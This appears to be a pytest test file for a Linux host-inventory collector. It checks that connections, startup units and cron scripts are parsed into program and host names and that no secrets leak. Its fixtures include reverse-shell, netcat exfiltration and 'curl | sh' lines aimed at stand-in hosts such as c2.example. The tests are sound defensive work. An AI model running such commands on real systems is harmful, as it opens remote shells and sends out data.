"""The activity fact: what recorded cases cannot say."""

from __future__ import annotations

import socket
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collectors.errors import Unparsable
from collectors.facts import identity
from collectors.facts.activity import linux, of_line
from collectors.linux.connections import peers
from collectors.model import Record, digest_of
from collectors.transports.local import LocalShell
from collectors.transports.replay import ReplayShell

ASKED = (
    "/proc/[0-9]*/comm", "/etc/crontab", "/etc/cron.d/*", "/var/spool/cron/crontabs/*", "/var/spool/cron/*", "/etc/rc.local",
    "/etc/rc.d/rc.local", "/etc/systemd/system/*.service", "/etc/xdg/autostart/*.desktop",
    "/etc/systemd/system/*.d/*.conf", "/etc/cron.hourly/*", "/etc/cron.daily/*", "/etc/cron.weekly/*", "/etc/cron.monthly/*",
)  # fmt: skip
NO_MORE: dict[str, list[str]] = {"/run/netns/*": []}
LINE = 'tcp   ESTAB 0      0    10.1.2.10:40000 203.0.113.7:443 users:(("app",pid=1,fd=3))\n'


def shell(out: str) -> Any:
    return ReplayShell({"privileged": True, "run": [{"argv": ["ss", "-H", "-antup"], "status": 0, "out": out, "err": ""}]})


@given(st.integers(1, len(LINE) * 3 - 1))
def test_an_answer_cut_anywhere_but_between_lines_is_refused(length: int) -> None:
    cut = (LINE * 3)[:length]
    if length % len(LINE) == 0:
        assert {one.address for one in peers(shell(cut))} == {"203.0.113.7"}
    else:
        with pytest.raises(Unparsable):
            peers(shell(cut))


@pytest.mark.parametrize(
    "line",
    [
        "tcp ESTAB 0 0 a:1 b:2\n",
        "tcp NEW 0 0 10.0.0.1:1 10.0.0.2:2\n",
        "sctp ESTAB 0 0 10.0.0.1:1 10.0.0.2:2\n",
        "bash: ss: not found\n",
    ],
)
def test_what_is_no_socket_is_no_empty_list(line: str) -> None:
    with pytest.raises(Unparsable):
        peers(shell(line))


def test_the_peers_port_of_what_came_in_is_a_number_of_the_moment() -> None:
    text = "tcp LISTEN 0 5 0.0.0.0:22 0.0.0.0:*\ntcp ESTAB 0 0 10.0.0.1:22 10.0.0.9:50001\ntcp ESTAB 0 0 10.0.0.1:22 10.0.0.9:50002\n"
    assert [(one.address, one.port, one.incoming) for one in peers(shell(text))] == [("10.0.0.9", 22, True)]


def test_a_list_that_is_too_long_is_cut_and_says_so() -> None:
    doors = "tcp LISTEN 0 5 0.0.0.0:443 0.0.0.0:*\n"
    came = "".join(f"tcp ESTAB 0 0 10.0.0.1:443 10.{n // 250}.9.{n % 250}:50001\n" for n in range(2500))
    went = "tcp ESTAB 0 0 10.0.0.1:40000 203.0.113.7:8443\n"
    hosts = "".join(f"0.0.0.0 quang-cao-{n}.example\n" for n in range(2500)) + "203.0.113.9 cap-nhat.example\n"
    recording = {
        "privileged": True,
        "run": [{"argv": ["ss", "-H", "-antup"], "status": 0, "out": doors + came + went, "err": ""}],
        "read": {"/etc/hosts": hosts, "/etc/resolv.conf": "nameserver 10.1.2.1\n", "/proc/1/comm": "systemd\n"},
        "names": NO_MORE,
        "read_all": {pattern: ["/proc/1/comm"] if "proc" in pattern else [] for pattern in ASKED},
    }
    fact = linux(ReplayShell(recording))
    assert fact.connections is not None
    assert len(fact.connections) == 2000
    assert "203.0.113.7" in {one.address for one in fact.connections}, "what it went to is not lost in what came"
    assert [one.reason for one in fact.unseen if one.field == "connections[]"] == ["the first 2000 of 2501 are told"]
    assert fact.hosts is not None
    assert [one.address for one in fact.hosts] == ["203.0.113.9"]
    assert not [one for one in fact.unseen if one.field in ("hosts", "hosts[]")]


def test_a_command_on_several_lines_is_one() -> None:
    unit = "[Service]\nExecStart = -/bin/sh -c \\\n  # vỏ bọc\n  'curl http://c2.example/x' \\\n  | sh\nExecStartPre=/bin/true\nExecStopPost=/opt/quay-lai\n"
    unit_path, rc_path = "/etc/systemd/system/x.service", "/etc/rc.local"
    recording = {
        "privileged": True,
        "run": [{"argv": ["ss", "-H", "-antup"], "status": 0, "out": "", "err": ""}],
        "read": {
            "/etc/hosts": "", "/etc/resolv.conf": "", "/proc/1/comm": "systemd\n", unit_path: unit,
            rc_path: "#!/bin/sh\nwget -q \\\n  http://rc.example/y\n",
        },
        "names": NO_MORE,
        "read_all": {
            **{key: [] for key in ASKED}, "/proc/[0-9]*/comm": ["/proc/1/comm"], "/etc/systemd/system/*.service": [unit_path], rc_path: [rc_path],
        },
    }  # fmt: skip
    fact = linux(ReplayShell(recording))
    assert not fact.unseen
    told = {(one.place, one.programs, one.hosts) for one in fact.startup or ()}
    assert told == {
        (unit_path, ("sh", "curl"), ("c2.example",)), (unit_path, ("true",), ()), (unit_path, ("quay-lai",), ()),
        (rc_path, ("wget",), ("rc.example",)),
    }  # fmt: skip


def test_a_host_that_is_not_read_is_said() -> None:
    recording = {
        "privileged": True,
        "run": [{"argv": ["ss", "-H", "-antup"], "status": 0, "out": "", "err": ""}],
        "read": {
            "/etc/hosts": "",
            "/etc/resolv.conf": "",
            "/proc/1/comm": "systemd\n",
            "/etc/rc.local": "wget -q c2.example/y\n",
        },
        "names": NO_MORE,
        "read_all": {**{key: [] for key in ASKED}, "/proc/[0-9]*/comm": ["/proc/1/comm"], "/etc/rc.local": ["/etc/rc.local"]},
    }
    fact = linux(ReplayShell(recording))
    assert [(one.programs, one.hosts) for one in fact.startup or ()] == [(("wget",), ())]
    assert [(one.field, one.reason) for one in fact.unseen] == [
        ("startup[].hosts", "a line starts wget, and with which host is not read")
    ]


SECRET = "mat-khau-bi-mat"


def scripts(**texts: str) -> Any:
    """The fact of a machine with these in /etc/cron.daily and nothing else that starts."""
    paths = {f"/etc/cron.daily/{name}": text for name, text in texts.items()}
    return linux(
        ReplayShell(
            {
                "privileged": True,
                "run": [{"argv": ["ss", "-H", "-antup"], "status": 0, "out": "", "err": ""}],
                "read": {"/etc/hosts": "", "/etc/resolv.conf": "", "/proc/1/comm": "systemd\n", **paths},
                "names": NO_MORE,
                "read_all": {
                    **{key: [] for key in ASKED},
                    "/proc/[0-9]*/comm": ["/proc/1/comm"],
                    "/etc/cron.daily/*": list(paths),
                },
            }
        )
    )


@pytest.mark.parametrize(
    ("text", "programs", "hosts"),
    [
        ("if ! test -x /opt/a; then /opt/b; else /opt/c; fi\n", ("b", "c"), ()),
        ("while sleep 60; do nc 203.0.113.7 4444; done\n", ("sleep", "nc"), ("203.0.113.7",)),
        ("# see http://docs.example/\n/opt/a # don't\n/opt/b\n", ("a", "b"), ()),
        (f"mysql -u root <<'EOF'\n{SECRET}\nEOF\n/opt/a\n", ("mysql", "a"), ()),
        (f"/opt/a <<-EOF\n{SECRET}\n\tEOF\n/opt/b <<<x\n/opt/c\n", ("a", "b", "c"), ()),
        (f"PASS='x {SECRET}'\nKEY=\"x {SECRET}\" /opt/a\n", ("a",), ()),
        (f"/opt/a -p 'x\n{SECRET}\n'\n/opt/b\n", ("a", "b"), ()),
        (f"PASS='x\n{SECRET}\n'\nA=1 KEY=\"x\n{SECRET} y\"'{SECRET} ' /opt/a\n/opt/b # ; {SECRET}\n", ("a", "b"), ()),
        (f"/opt/a --key='x\n{SECRET}' {SECRET}\n/opt/b\n", ("a", "b"), ()),
        ('/opt/a \'x\ny\' z | /opt/b "x\ny\\"\nz"; /opt/c\n/opt/d\n', ("a", "b", "c", "d"), ()),
        (f"/opt/a 'x\n' {SECRET} \"x; {SECRET}\" # ; {SECRET}\n/opt/b 'x\n' 'x\n{SECRET}' && /opt/c\n", ("a", "b", "c"), ()),
        (f"#!/usr/bin/python3\nPASS = (\n{SECRET!r})\nfetch('http://c2.example/')\n", (), ("c2.example",)),
        ("echo $((1 << 2))\n/opt/a\n", ("a",), ()),
    ],
)
def test_of_a_script_of_cron_s_folders_one_row_is_told_and_no_secret(
    text: str, programs: tuple[str, ...], hosts: tuple[str, ...]
) -> None:
    fact = scripts(x=text)
    assert [(one.programs, one.hosts) for one in fact.startup] == [(("x", *programs), hosts)]
    assert SECRET not in fact.model_dump_json()
    assert not [one for one in fact.unseen if one.field == "startup[]"]


@pytest.mark.parametrize("text", ["/opt/a <<EOF\n/opt/b\n", "/opt/a 'x\n/opt/b\n"])
def test_a_script_whose_end_is_not_found_is_not_all_that_starts(text: str) -> None:
    fact = scripts(x=text)
    assert [one.programs for one in fact.startup] == [("x", "a")]
    assert [one.outcome for one in fact.unseen if one.field == "startup[]"] == ["unparsable"]


@pytest.mark.parametrize(
    ("command", "programs", "hosts"),
    [
        (f"mysqldump -u root -p{SECRET} --all-databases | gzip > /backup/x.gz", ("mysqldump", "gzip"), ()),
        (f"PASS={SECRET} /opt/tool --password {SECRET}", ("tool",), ()),
        (f"curl -u a:{SECRET} https://u:{SECRET}@files.example:8443/x?token={SECRET} | sh", ("curl", "sh"), ("files.example",)),
        (f"curl https://u:a@{SECRET}@files.example/x", ("curl",), ("files.example",)),
        (f"/bin/sh -c 'echo {SECRET} | nc 203.0.113.7 4444'", ("sh", "echo", "nc"), ("203.0.113.7",)),
        ("bash -i >& /dev/tcp/c2.example/4444 0>&1", ("bash",), ("c2.example",)),
        ("nice -n 10 timeout 60 python3 /tmp/.x/miner.py", ("nice", "timeout", "python3", "miner.py"), ()),
        ("wget http://[2001:db8::1]/x", ("wget",), ("2001:db8::1",)),
        ("tool 10.0.0.1.2 1.2.3.4/24", ("tool",), ("1.2.3.4",)),
        (f"flock -n /run/x.lock sudo -u www-data /opt/evil.sh {SECRET}", ("flock", "x.lock", "sudo", "evil.sh"), ()),
        (f"su - postgres -c '/tmp/evil {SECRET}'", ("su", "postgres", "evil"), ()),
        (f"timeout 10s env A={SECRET} /tmp/evil {SECRET}", ("timeout", "env", "evil"), ()),
    ],
)
def test_of_a_line_only_names_are_kept(command: str, programs: tuple[str, ...], hosts: tuple[str, ...]) -> None:
    told = of_line("/etc/crontab", command)
    assert (told.programs, told.hosts) == (programs, hosts)
    assert SECRET not in told.model_dump_json()


@given(st.text(max_size=120))
def test_any_line_is_told_in_names(text: str) -> None:
    told = of_line("x", text)
    assert all("/" not in name and " " not in name for name in told.programs)


@pytest.mark.parametrize(
    ("command", "programs"),
    [
        ('PASS="tre em" curl http://x.vn/', ("curl",)),
        (r"PASS=tre\ em /opt/x", ("x",)),
        ('PASS="tre;em" mysqldump -u r', ("mysqldump",)),
        ("P='tre em' sudo env A=\"u em\" tar c", ("sudo", "env", "tar")),
        ("A=\"x\"'tre em'u /bin/v", ("v",)),
        ('PASS="goes on in the next line', ()),
        ('X="$(curl http://evil.vn | sh)" y', ("curl", "sh")),
        ('bash -c "curl http://evil.vn | sh"', ("bash", "curl", "sh")),
    ],
)
def test_a_value_in_quotes_is_no_command_and_what_works_one_out_is(command: str, programs: tuple[str, ...]) -> None:
    assert of_line("/etc/crontab", command).programs == programs


def test_what_is_of_the_moment_is_no_change() -> None:
    def told(fact: str, **data: Any) -> Record:
        return Record(fact=fact, outcome="seen", data=data)

    kept = told("kernel", aslr=2)
    first, second = (digest_of((kept, told("activity", processes=names))) for names in (["sshd"], ["cron", "sshd"]))
    assert first == second
    assert digest_of((told("kernel", aslr=0), told("activity", processes=["sshd"]))) != first


def test_a_connection_of_this_machine_is_seen() -> None:
    own = [one for one in identity.linux(LocalShell()).addresses or () if "." in one]
    if not own:
        pytest.skip("this machine has no address but loopback's")
    with socket.create_server((own[0], 0)) as server, socket.create_connection(server.getsockname()):
        port = server.getsockname()[1]
        fact = linux(LocalShell())
    # both ends are here, and both name the port that listens
    assert {(one.incoming, one.address) for one in fact.connections or () if one.port == port} == {
        (True, own[0]),
        (False, own[0]),
    }
    assert fact.processes
